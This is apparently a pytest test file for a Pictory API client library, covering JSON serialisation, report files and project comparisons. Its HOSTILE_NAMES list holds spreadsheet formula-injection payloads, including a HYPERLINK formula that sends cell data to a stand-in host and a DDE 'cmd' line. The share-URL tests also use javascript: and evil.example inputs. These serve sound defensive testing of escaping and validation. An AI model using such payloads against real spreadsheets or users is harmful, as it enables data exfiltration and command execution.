"""Models as plain JSON data, report files (JSON, JSON Lines, CSV) and comparisons."""

from __future__ import annotations

import csv
import enum
import io
import json
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import attrs
import pytest
from _support import load_fixture
from hypothesis import given
from hypothesis import strategies as st

from pictory_async import (
    AsyncPictory,
    Comparison,
    DeleteResult,
    InvalidInputError,
    Project,
    ProjectSummary,
    ScriptTxtSceneSettings,
    compare_projects,
    project_report,
    write_report,
)
from pictory_async._converter import converter, unstructure
from pictory_async._reports import csv_cell
from pictory_async.emulator import Emulator

UTC = timezone.utc
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def recorded_project() -> Project:
    """The reference page's sample, as the client reads it."""
    return converter.structure(load_fixture("get-project-by-id.json"), Project)


def dumps(data: Any) -> str:
    """Strict JSON: a NaN or an object json cannot write fails."""
    return json.dumps(data, allow_nan=False)


# -- to_dict ---------------------------------------------------------------------------


def test_every_recorded_payload_is_json_ready() -> None:
    """Each fixture's model, in both key styles, goes through strict ``json.dumps``."""
    project = recorded_project()
    page = load_fixture("list-projects-page.json")
    summaries = [converter.structure(item, ProjectSummary) for item in page["items"]]
    deleted = load_fixture("delete-project.json")
    result = DeleteResult(project_id="p1", success=deleted["success"], message=deleted["message"])
    models: list[Project | ProjectSummary] = [project, *summaries]
    for model in models:
        for wire_names in (False, True):
            data = model.to_dict(wire_names=wire_names)
            assert data == json.loads(dumps(data))
    assert {
        "project_id": "p1",
        "success": True,
        "message": "Project deleted successfully",
        "already_absent": False,
        "inferred_from_retry": False,
    } == json.loads(dumps(result.to_dict()))


def test_wire_names_give_back_the_recorded_answer() -> None:
    """With ``wire_names=True`` the sample comes back key for key (absent fields are None)."""
    sample = load_fixture("get-project-by-id.json")
    data = recorded_project().to_dict(wire_names=True)
    assert sample == {key: value for key, value in data.items() if value not in (None, [])}


def test_snake_case_keys_and_iso_dates() -> None:
    """Default keys are the attribute names; dates are ISO 8601 in UTC with a ``Z``."""
    data = recorded_project().to_dict()
    assert "Hello World Template" == data["project_name"]
    assert "2025-12-23T01:54:26.658Z" == data["save_date"]
    assert {"auto_highlight_keywords": True, "max_lines": 2, "auto_visual_selection": True} == (
        data["script_txt_scene_settings"]
    )
    assert [] == data["scenes"]
    assert "raw" not in data


def test_unknown_fields_are_kept_with_wire_names_only() -> None:
    """Keys Pictory sent that the model lacks stay (also nested) with wire names only."""
    payload = {
        "projectName": "p",
        "futureField": {"a": [1, 2]},
        "scriptTxtSceneSettings": {"maxLines": 3, "newKnob": "x"},
    }
    project = converter.structure(payload, Project)
    wire = project.to_dict(wire_names=True)
    assert {"a": [1, 2]} == wire["futureField"]
    assert {
        "autoHighlightKeywords": None,
        "maxLines": 3,
        "autoVisualSelection": None,
        "newKnob": "x",
    } == wire["scriptTxtSceneSettings"]
    snake = project.to_dict()
    assert "futureField" not in snake
    assert "newKnob" not in snake["script_txt_scene_settings"]


@pytest.mark.parametrize(
    ("moment", "expected"),
    [
        (datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC), "2025-01-02T03:04:05.000Z"),
        (datetime(2025, 1, 2, 3, 4, 5, 123456, tzinfo=UTC), "2025-01-02T03:04:05.123456Z"),
        (
            datetime(2025, 1, 2, 5, 4, 5, tzinfo=timezone(timedelta(hours=2))),
            ("2025-01-02T03:04:05.000Z"),
        ),
        (datetime(2025, 1, 2, 3, 4, 5), "2025-01-02T03:04:05.000Z"),  # naive: taken as UTC
    ],
    ids=["utc", "microseconds", "offset", "naive"],
)
def test_datetimes_become_utc_iso_strings(moment: datetime, expected: str) -> None:
    """Any datetime a model holds is written in UTC, ``Z``, at least to the millisecond."""
    assert expected == Project(save_date=moment).to_dict()["save_date"]


class Color(enum.Enum):
    RED = "red"


class Level(enum.IntEnum):
    HIGH = 3


class Pair(enum.Enum):
    AB = ("a", "b")


class EvilInt(int):
    def __int__(self) -> int:
        raise AssertionError("int() of a subclass is never called")


class EvilStr(str):
    def __str__(self) -> str:
        raise AssertionError("str() of a subclass is never called")


def test_hostile_values_become_plain_json() -> None:
    """NaN is None, subclasses plain, enums their value, odd objects their str()."""
    raw = {
        "nan": float("nan"),
        "inf": [float("inf")],
        "evil": EvilStr("x"),
        "color": Color.RED,
        "set": {1},
        3: "int key",
        ("a", 1): "tuple key",
        "level": Level.HIGH,
        "pair": Pair.AB,
        "evil_int": EvilInt(7),
        "day": date(2025, 1, 2),
        "model": ScriptTxtSceneSettings(max_lines=2, raw={"hidden": 1}),
    }
    data = unstructure(raw)
    assert {
        "nan": None,
        "inf": [None],
        "evil": "x",
        "color": "red",
        "set": "{1}",
        "3": "int key",
        "('a', 1)": "tuple key",
        "level": 3,
        "pair": "('a', 'b')",
        "evil_int": 7,
        "day": "2025-01-02",
        "model": {"auto_highlight_keywords": None, "max_lines": 2, "auto_visual_selection": None},
    } == data
    assert (str, int, int) == (type(data["evil"]), type(data["level"]), type(data["evil_int"]))


def test_deep_payloads_convert_without_recursion() -> None:
    """An extra field nested as deep as the JSON decoder allows converts fine."""
    deep = json.loads("[" * 900 + "]" * 900)
    project = converter.structure({"projectName": "p", "deep": deep}, Project)
    data = project.to_dict(wire_names=True)
    assert deep == data["deep"]


def test_a_circular_structure_is_a_value_error() -> None:
    """A container that holds itself is refused, not looped over forever."""
    loop: list[Any] = []
    loop.append(loop)
    shared = [1]
    assert [[1], [1]] == unstructure([shared, shared])  # shared, not circular: fine
    with pytest.raises(ValueError, match="circular"):
        unstructure({"a": loop})


# Wire payloads of every known type plus unknown extras of any JSON shape.
_json = st.recursive(  # finite floats: a NaN becomes None (test_hostile_values_...)
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=10,
)
_dates = st.datetimes(
    min_value=datetime(1971, 1, 1), max_value=datetime(2200, 1, 1), timezones=st.just(UTC)
)
_wire_project = st.fixed_dictionaries(
    {},
    optional={
        "projectName": st.text(),
        "step": st.sampled_from(["STORYBOARD", "RENDER", "COMPLETE"]),
        "videoURL": st.text(),
        "shareVideoURL": st.text(),
        "videoDuration": st.floats(allow_nan=False, allow_infinity=False),
        "audioSpeed": st.integers(0, 300),
        "saveDate": _dates.map(lambda d: d.isoformat()),
        "inProgress": st.booleans(),
        "scriptTxtSceneSettings": st.fixed_dictionaries(
            {}, optional={"maxLines": st.integers(0, 9), "extra": _json}
        ),
        "visualFilter": st.fixed_dictionaries({}, optional={"styles": st.lists(_json)}),
        "scenes": st.lists(st.fixed_dictionaries({}, optional={"text": st.text()}), max_size=2),
        "somethingNew": _json,
    },
)


@given(payload=_wire_project, project_id=st.none() | st.integers() | st.text(min_size=1))
def test_generated_projects_are_json_ready_and_round_trip(
    payload: dict[str, Any], project_id: str | int | None
) -> None:
    """Any project: strict ``json.dumps`` works, and the wire dict reads back equal."""
    project = converter.structure({**payload, "id": project_id}, Project)
    snake = json.loads(dumps(project.to_dict()))
    wire = json.loads(dumps(project.to_dict(wire_names=True)))
    assert project_id == snake["id"]
    assert project == converter.structure(wire, Project)


# -- share_url ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("share", "expected"),
    [
        ("https://video.pictory.ai/a/b", "https://video.pictory.ai/a/b"),
        (" http://video.pictory.ai/a ", "http://video.pictory.ai/a"),
        (None, None),
        ("", None),
        ("   ", None),
        ("javascript:alert(1)", None),
        ("//evil.example/x", None),
    ],
)
def test_share_url(share: str | None, expected: str | None) -> None:
    """The share link when it is an http(s) URL, else ``None``."""
    assert expected == Project(share_video_url=share).share_url


# -- reports -----------------------------------------------------------------------------


def test_a_report_row_is_flat_json() -> None:
    """``project_report`` gives the reference report's facts in one flat row."""
    row = project_report(attrs.evolve(recorded_project(), id="p1"))
    assert {
        "id": "p1",
        "name": "Hello World Template",
        "step": "STORYBOARD",
        "rendered": True,
        "max_lines": 2,
        "save_date": "2025-12-23T01:54:26.658Z",
        "share_url": (
            "https://video.pictory.ai/20251222191648030d7df02f5b4054d4ca8831f1369459e25/"
            "202512222223581518MQ0e1s90cquQkN"
        ),
    } == {key: row[key] for key in ("id", "name", "step", "rendered", "max_lines")} | {
        key: row[key] for key in ("save_date", "share_url")
    }
    assert all(not isinstance(value, (dict, list)) for value in row.values())


def test_a_report_row_of_something_else_is_refused() -> None:
    """Only projects and summaries make rows (a typed error, not an AttributeError)."""
    with pytest.raises(InvalidInputError, match="not dict"):
        project_report({"id": 1})  # type: ignore[arg-type]


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_each_format_reads_back(tmp_path: Path, fmt: str) -> None:
    """Rows written in each format read back with the same names and values."""
    projects = [
        Project(id="a", project_name="first", video_volume=-1.5, in_progress=False),
        Project(id=7, project_name='second, with "quotes"\nand a newline'),
    ]
    path = tmp_path / f"report.{fmt}"
    assert 2 == write_report(projects, path)
    text = path.read_text(encoding="utf-8")
    if fmt == "json":
        rows = json.loads(text)
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in text.splitlines()]
    else:
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = [row["name"] for row in rows]
    assert ["first", 'second, with "quotes"\nand a newline'] == names
    volume = rows[0]["video_volume"]
    assert (-1.5 if fmt != "csv" else "-1.5") == volume  # a number is not "escaped"
    assert [] == [p.name for p in tmp_path.iterdir() if p.name != path.name]  # no temp file


def test_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
    """Every hostile name is written with a leading quote, so it stays text."""
    path = tmp_path / "report.csv"
    write_report([Project(id=n, project_name=name) for n, name in enumerate(HOSTILE_NAMES)], path)
    with path.open(newline="", encoding="utf-8") as file:
        names = [row["name"] for row in csv.DictReader(file)]
    assert ["'" + name for name in HOSTILE_NAMES] == names


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (-3, "-3"),
        (0.1, "0.1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (["=x"], '["=x"]'),
        ({"k": 1}, '{"k":1}'),
    ],
)
def test_csv_cell(value: object, expected: str) -> None:
    """Cells: numbers as numbers, only a dangerous first character is escaped."""
    assert expected == csv_cell(value)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_a_lone_surrogate_in_a_name_does_not_break_the_report(tmp_path: Path, fmt: str) -> None:
    r"""JSON allows ``"\ud800"``: the file is still valid UTF-8 (JSON reads the name back)."""
    name = converter.structure(json.loads('{"projectName": "a\\ud800b"}'), Project).project_name
    path = tmp_path / f"r.{fmt}"
    write_report([Project(id=1, project_name=name)], path)
    text = path.read_bytes().decode("utf-8")  # strict: raises on anything invalid
    if fmt == "csv":
        assert "a\\ud800b" in text
    else:
        first = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
        assert name == first["name"]


def test_summaries_and_ready_rows_share_a_csv(tmp_path: Path) -> None:
    """Summaries and mappings mix; the header is every column any row has."""
    summary = ProjectSummary(id=5, name="s", saved_date=datetime(2025, 1, 1, tzinfo=UTC))
    path = tmp_path / "mixed.csv"
    write_report([summary, {"id": 6, "note": "=1"}], path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert "2025-01-01T00:00:00.000Z" == rows[0]["saved_date"]
    assert ("6", "'=1", "") == (rows[1]["id"], rows[1]["note"], rows[1]["name"])


@pytest.mark.parametrize(
    ("items", "name", "fmt", "message"),
    [
        ([Project(id=1)], "report.txt", None, "cannot tell the report format"),
        ([Project(id=1)], "report.csv", "xml", "format must be one of"),
        ([Project(id=1), 42], "report.csv", None, "not int"),
        ("abc", "report.csv", None, "iterable of projects"),
    ],
)
def test_bad_input_is_refused_before_anything_is_written(
    tmp_path: Path, items: Any, name: str, fmt: Any, message: str
) -> None:
    """``InvalidInputError`` and the existing file is untouched."""
    path = tmp_path / name
    path.write_text("before")
    with pytest.raises(InvalidInputError, match=message):
        write_report(items, path, format=fmt)
    assert "before" == path.read_text()


# -- comparisons -------------------------------------------------------------------------


def test_compare_names_the_fields_that_differ() -> None:
    """Values side by side, in the given order; ``differing`` and ``same`` split the fields."""
    a = Project(id="a", layout="16:9", audio_speed=100, video_volume=50.0)
    b = Project(
        id="b",
        layout="9:16",
        audio_speed=100,
        video_volume=50,
        script_txt_scene_settings=ScriptTxtSceneSettings(max_lines=2),
    )
    comparison = compare_projects(
        [a, b], ["layout", "audio_speed", "video_volume", "script_txt_scene_settings.max_lines"]
    )
    assert ("a", "b") == comparison.project_ids
    assert ("16:9", "9:16") == comparison.values["layout"]
    assert ("layout", "script_txt_scene_settings.max_lines") == comparison.differing
    assert ("audio_speed", "video_volume") == comparison.same
    assert {
        "project_ids": ["a", "b"],
        "differing": ["layout", "script_txt_scene_settings.max_lines"],
    } == {key: value for key, value in comparison.to_dict().items() if key != "values"}


def test_the_comparison_table() -> None:
    """``str()`` is a table: a row per field, ``*`` where the projects differ."""
    saved = datetime(2025, 1, 2, tzinfo=UTC)
    comparison = compare_projects(
        [
            Project(id="a", layout="16:9", project_name="x\ny", save_date=saved),
            Project(id=2, layout="1:1", project_name="x y", save_date=saved),
        ],
        ["project_name", "layout", "save_date"],
    )
    assert [
        "  field        a                        2",
        "* project_name x y                      x y",  # a newline does not break the row
        "* layout       16:9                     1:1",
        "  save_date    2025-01-02T00:00:00.000Z 2025-01-02T00:00:00.000Z",
    ] == (str(comparison).splitlines())


def test_nothing_to_compare_is_an_empty_comparison() -> None:
    """No projects (every id missing from ``get_many``): no columns, nothing differs."""
    comparison = compare_projects([], ["layout"])
    assert ((), (), ("layout",)) == (comparison.project_ids, comparison.differing, comparison.same)
    assert ["  field", "  layout"] == str(comparison).splitlines()


def test_default_fields_are_pictorys_comparison() -> None:
    """Without ``fields``: names, layouts, schemas, durations, speeds, volumes, max lines."""
    comparison = compare_projects([recorded_project()])
    assert {
        "project_name",
        "layout",
        "schema_version",
        "video_duration",
        "audio_speed",
        "video_volume",
        "script_txt_scene_settings.max_lines",
    } <= set(comparison.fields)
    assert () == comparison.differing


@pytest.mark.parametrize(
    ("projects", "fields", "message"),
    [
        ([Project()], ["nope"], "unknown project field"),
        ([Project()], ["raw"], "unknown project field"),
        ([Project()], ["visual_filter.nope"], "unknown project field"),
        ([Project()], [3], "must be a string"),
        ([ProjectSummary(id=1)], None, "only compare Project"),
        ({"a": Project()}, None, "iterable of Project"),
    ],
)
def test_compare_refuses_bad_input(projects: Any, fields: Any, message: str) -> None:
    """A typed error names what is wrong."""
    with pytest.raises(InvalidInputError, match=message):
        compare_projects(projects, fields)


@pytest.mark.pictory_emulator(projects=6, seed=3)
async def test_get_many_feeds_a_comparison_and_a_report(
    pictory_client: AsyncPictory, pictory_emulator: Emulator, tmp_path: Path
) -> None:
    """The ``BulkResult`` of ``get_many`` goes straight into both."""
    ids = [record.id for record in pictory_emulator.projects()]
    result = await pictory_client.projects.get_many(ids)
    comparison = compare_projects(result)
    assert isinstance(comparison, Comparison)
    assert sorted(map(str, ids)) == sorted(map(str, comparison.project_ids))
    assert "project_name" in comparison.differing  # every generated name differs
    assert len(ids) == write_report(result, tmp_path / "r.jsonl")
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert {str(i) for i in ids} == {str(json.loads(line)["id"]) for line in lines}
